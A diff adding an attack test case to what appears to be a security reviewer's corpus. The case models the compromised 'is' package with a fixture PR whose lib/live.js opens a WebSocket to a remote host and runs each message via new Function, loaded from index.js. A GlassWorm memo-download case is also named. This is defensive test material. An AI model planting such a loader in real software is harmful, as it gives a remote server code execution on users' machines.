@@ -1862,6 +1862,23 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-metadata-shell-payload'] },
   },
   {
+    id: 'attack-websocket-loader-runs-messages',
+    description:
+      'Modeled on the compromised `is` package (July 2025, the same phishing wave as eslint-config-prettier), whose new versions carried a loader that opened a WebSocket and ran what the server sent: a newcomer\'s "live config" PR adds lib/live.js, which connects to a remote wss:// host and passes each message to new Function, and requires it from index.js.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11232,
+        title: 'feat: live config reload',
+        author: 'newcomer',
+        files: [
+          { path: 'lib/live.js', head: lines("'use strict';", "const WebSocket = require('ws');", '', "const ws = new WebSocket('wss://cfg.tinted-cdn.dev/live');", "ws.on('message', (m) => {", '  try {', "    new Function('require', m.toString())(require);", '  } catch {}', '});') },
+          { path: 'index.js', base: INDEX_BASE, head: lines("require('./lib/live');", INDEX_BASE) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
     id: 'attack-extension-evals-memo-download',
     description:
       'GlassWorm (Koi Security, October 2025 and after): the extension looked up a Solana wallet\'s latest transaction, decoded a URL from its memo, fetched that URL and ran the text. Here a "telemetry" PR to an editor extension does it.',
